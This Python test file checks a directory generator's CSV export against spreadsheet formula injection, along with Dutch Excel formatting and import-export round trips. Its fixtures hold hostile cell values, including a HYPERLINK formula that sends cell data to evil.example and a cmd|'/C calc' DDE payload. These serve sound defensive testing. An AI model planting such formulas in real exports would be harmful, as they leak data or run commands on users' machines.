"""The CSV export for spreadsheets: no formula runs (OWASP CSV injection), Excel in Dutch opens it in
columns, and import -> export -> import gives back the same records."""

import csv
import io
import json
import shutil

from click.testing import CliRunner

from helpers import TODAY
from generator.render import export
from generator.cli import main
from generator.render.spreadsheet import spreadsheet_text, unescape_cell
from generator.validate.pipeline import validate_folder

# a value -> the cell the CSV holds
CELLS = {
    '=HYPERLINK("https://evil.example/?"&A1,"Klik hier")': '\'=HYPERLINK("https://evil.example/?"&A1,"Klik hier")',
    "+32 52 44 55 67": "'+32 52 44 55 67",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1": "'-1+1",
    "-3.5": "'-3.5",  # a negative coordinate too (OWASP): the spreadsheet shows it as text
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "'=1+1": "''=1+1",  # an apostrophe of its own before a formula character survives the import
    "''": "'''",
    "'t Hofke": "'t Hofke",  # an ordinary leading apostrophe (Flemish 't) is left alone
    "'": "'",
    "Huis van het Kind": "Huis van het Kind",
    "": "",
}


def test_cells_are_neutralised_and_restored():
    for value, cell in CELLS.items():
        assert spreadsheet_text(value) == cell, value
        assert unescape_cell(cell) == value, cell


def partner_yaml(pid: str, naam: str, beschrijving: str, telefoon: str = "052 44 55 66") -> str:
    return (f"id: {pid}\nnaam: {json.dumps(naam)}\nsoort: andere\nkorte_beschrijving: {json.dumps(beschrijving)}\n"
            "levensdomeinen: [opvoeding]\naanmelden:\n  via: [zelf]\n  kostprijs: gratis\n"
            'werkgebied:\n  gemeenten: ["42028"]\nlocaties:\n  - adres:\n      straat: Markt 1\n'
            '      postcode: "9240"\n      gemeente: Zele\n    coordinaten:\n      lat: 51.0659\n      lon: 4.0398\n'
            f"contact:\n  telefoon: {json.dumps(telefoon)}\nberoepsgeheim: true\nbrede_instap: false\n"
            'nagekeken:\n  datum: "2026-10-01"\n  door: Test\n')


PARTNERS = {  # id -> naam, korte_beschrijving(, telefoon)
    "formule-link": ('=HYPERLINK("https://evil.example/?"&A1,"Klik hier")', "@SUM(1+1)*cmd|' /C calc'!A0"),
    "formule-som": ("@SUM(A1:A9)", "-1+1 is een som die een rekenblad zou uitrekenen.", "+32 52 44 55 67"),
    "formule-min": ("-1+1", "=1+1"),
    "formule-tab": ("Tab vooraan", "+ een plus vooraan"),
    "t-hofke": ("'t Hofke", "'=1+1 met een eigen apostrof"),
}


def hostile_project(folder):
    for pid, values in PARTNERS.items():
        (folder / "partners" / "dender" / f"{pid}.yml").write_text(partner_yaml(pid, *values), encoding="utf-8")
    result = validate_folder(folder, today=TODAY)
    assert result.errors == [], result.errors
    return result.project


def rows(text: str) -> dict[str, dict]:
    return {r["id"]: r for r in csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";")}


def test_csv_starts_with_a_bom_and_uses_semicolons(basis):
    text = export.to_csv(hostile_project(basis))
    assert text.startswith('\ufeff"id";"regio";"naam";"soort";')
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")
    assert list(next(iter(rows(text).values()))) == export.CSV_COLUMNS


def test_csv_export_neutralises_every_formula_cell(basis):
    project = hostile_project(basis)
    # validation refuses a leading tab or carriage return; the export neutralises them all the same
    record = next(r for r in project.of_kind("partner") if r.doc.data["id"] == "formule-tab")
    record.doc.data["naam"] = "\t=1+1 met een tab ervoor"
    record.doc.data["nagekeken"] = {**record.doc.data["nagekeken"], "door": "\r=1+1"}
    table = rows(export.to_csv(project))
    assert table["formule-link"]["naam"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Klik hier")'
    assert table["formule-link"]["korte_beschrijving"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert table["formule-som"]["naam"] == "'@SUM(A1:A9)"
    assert table["formule-som"]["korte_beschrijving"] == "'-1+1 is een som die een rekenblad zou uitrekenen."
    assert table["formule-som"]["telefoon"] == "'+32 52 44 55 67"
    assert table["formule-min"]["naam"] == "'-1+1"
    assert table["formule-min"]["korte_beschrijving"] == "'=1+1"
    assert table["formule-tab"]["naam"] == "'\t=1+1 met een tab ervoor"
    assert table["formule-tab"]["korte_beschrijving"] == "'+ een plus vooraan"
    assert table["formule-tab"]["nagekeken_door"] == "'\r=1+1"
    assert table["t-hofke"]["naam"] == "'t Hofke"
    assert table["t-hofke"]["korte_beschrijving"] == "''=1+1 met een eigen apostrof"
    for row in table.values():  # no cell left that a spreadsheet would run
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row


def test_site_export_is_the_same_csv(basis):
    """The site's export/partners.csv is made by the same function (plugin.py: export.FORMATS)."""
    assert export.FORMATS["csv"] == ("partners.csv", export.to_csv)


def test_import_of_the_csv_export_gives_back_the_records(basis, tmp_path_factory):
    original = hostile_project(basis)
    sheet = tmp_path_factory.mktemp("blad") / "partners.csv"
    result = CliRunner().invoke(main, ["export", str(basis), "--format", "csv", "-o", str(sheet)])
    assert result.exit_code == 0, result.output
    target = tmp_path_factory.mktemp("doel")
    shutil.copytree(basis / "regions", target / "regions")
    result = CliRunner().invoke(main, ["import", str(sheet), "--regio", "dender", "--data", str(target)])
    assert result.exit_code == 0, result.output
    again = validate_folder(target, today=TODAY)
    assert again.errors == []
    # every field the CSV carries comes back unchanged, compared through the JSON export (the basis
    # partner has no brede_instap, which the CSV writes as 'false': left out of the comparison)
    def records(project):
        return {x["id"]: x for x in json.loads(export.to_json(project))["partners"] if x["id"] in PARTNERS}

    assert len(records(original)) == len(PARTNERS)
    assert records(again.project) == records(original)
    assert export.to_csv(again.project) == export.to_csv(original)
